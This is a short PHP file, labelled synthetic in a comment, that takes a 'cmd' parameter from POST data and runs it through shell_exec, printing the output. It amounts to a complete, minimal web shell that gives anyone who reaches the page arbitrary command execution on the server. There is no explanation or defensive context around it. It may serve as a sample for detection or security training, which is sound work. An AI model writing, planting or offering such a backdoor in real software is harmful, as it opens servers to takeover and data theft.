<?php
// synthetic: the command variable interpolated into a double-quoted string
$cmd = $_POST['cmd'];
if ($cmd) {
    echo shell_exec("$cmd 2>&1");
}
